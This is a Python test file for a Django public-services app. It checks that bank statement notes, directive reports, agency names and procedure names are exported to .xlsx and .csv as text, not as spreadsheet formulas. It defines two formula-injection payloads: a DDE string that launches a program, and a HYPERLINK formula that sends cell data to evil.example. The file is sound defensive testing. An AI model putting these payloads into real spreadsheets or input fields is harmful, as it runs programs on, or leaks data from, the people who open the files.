"""Text from outside is written to every .xlsx and .csv export as text, never as a formula.

A spreadsheet program runs a cell beginning with = + - @ (or a tab, a carriage return) as a
formula (OWASP "CSV injection"): a formula can fetch a URL with the sheet's data or start a
program. In .xlsx files such text is a string cell (openpyxl's data type "s") carrying the
quotePrefix style, with the value exactly as typed; in .csv files it gets a leading apostrophe,
which spreadsheet programs hide.
"""

import csv
import io
from datetime import timedelta

from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.utils import timezone

from openpyxl import load_workbook

from motcua.catalog.models import ProcedureVersion
from motcua.catalog.services import export_catalog
from motcua.directives import services as directive_services
from motcua.geography.models import Agency
from motcua.monitoring import services as monitoring
from motcua.payments.models import ReviewItem
from tests.builders.dossiers import WARD_B, client_for, committee, file_dossier
from tests.builders.payments import approved_account

DDE = "=cmd|' /C calc'!A0"  # the classic: starts a program when the file is opened
LEAK = '=HYPERLINK("http://evil.example/?d="&B2,"Xem chi tiết")'


def _text_cells(book, text: str) -> list:
    return [
        cell
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.value == text
    ]


def assert_written_as_text(content: bytes, *texts: str) -> None:
    """Each text is in the workbook, only as a string cell with the quotePrefix style."""
    book = load_workbook(io.BytesIO(content))
    for text in texts:
        cells = _text_cells(book, text)
        assert cells, f"{text!r} is not in the workbook"
        assert [(c.data_type, c.quotePrefix) for c in cells] == [("s", True)] * len(cells)
    formulas = [c for s in book.worksheets for r in s.iter_rows() for c in r if c.data_type == "f"]
    assert formulas == []


def test_a_bank_statements_note_is_text_in_the_collections_report(ward_b, centre):
    approved_account(ward_b, centre)
    header = "Ngày giao dịch;Số tham chiếu;Số tiền ghi có;Nội dung\n"
    line = f"{timezone.localdate():%d/%m/%Y} 09:10:00;@FT-77;5.000;{DDE}\n"
    statement = SimpleUploadedFile("sao-ke.csv", (header + line).encode("utf-8-sig"))

    imported = client_for(centre).post(
        "/api/v1/payments/statements/", {"file": statement}, format="multipart"
    )
    today = timezone.localdate().isoformat()
    report = client_for(centre).get(
        "/api/v1/payments/report/", {"start": today, "end": today, "export": "xlsx"}
    )

    assert imported.status_code == 201, imported.content
    assert ReviewItem.objects.get().note == DDE
    assert report.status_code == 200
    assert_written_as_text(report.content, DDE, "@FT-77")


def test_reported_difficulties_are_text_in_the_compiled_workbook(ward_b, coordinator):
    directive = directive_services.issue_directive(
        actor=coordinator,
        title="+ Rà soát thủ tục",
        body="",
        theme="-Cải cách",
        issued_by="centre",
        deadline=timezone.localdate() + timedelta(days=5),
        agencies=[committee(WARD_B)],
    )
    directive_services.report_progress(
        directive.assignments.get(),
        actor=ward_b.handling,
        progress_percent=40,
        progress="Đang làm",
        difficulties=LEAK,
        proposals="@Sở Tài chính hướng dẫn",
    )
    browser = Client()
    browser.force_login(coordinator)

    response = browser.get("/workspace/directives/difficulties.xlsx")

    assert response.status_code == 200
    assert_written_as_text(
        response.content, LEAK, "@Sở Tài chính hướng dẫn", "+ Rà soát thủ tục", "-Cải cách"
    )


def test_an_agency_name_is_text_in_the_monitoring_report_and_the_indicator_csv(ward_b, coordinator):
    file_dossier(ward_b.receiving, point=f"MC-{WARD_B}")
    monitoring.refresh_until_current()
    Agency.objects.filter(pk=committee(WARD_B).pk).update(name=LEAK)
    browser = Client()
    browser.force_login(coordinator)
    period = f"{timezone.localdate():%Y-%m}"

    xlsx = browser.get("/workspace/monitoring/report/", {"period": period, "format": "xlsx"})
    report_csv = browser.get("/workspace/monitoring/report/", {"period": period, "format": "csv"})
    api_csv = client_for(coordinator).get("/api/v1/indicators/", {"format": "csv"})

    assert_written_as_text(xlsx.content, LEAK)
    for response in (report_csv, api_csv):
        assert response.status_code == 200
        rows = list(csv.DictReader(io.StringIO(response.content.decode())))
        assert [r["name"] for r in rows] == [f"'{LEAK}"]  # the apostrophe, then as typed


def test_a_procedure_name_is_text_in_the_catalog_export(db):
    version = ProcedureVersion.objects.filter(status="published").order_by("pk").first()
    ProcedureVersion.objects.filter(pk=version.pk).update(name=DDE)

    content = export_catalog("xlsx")

    assert_written_as_text(content, DDE)
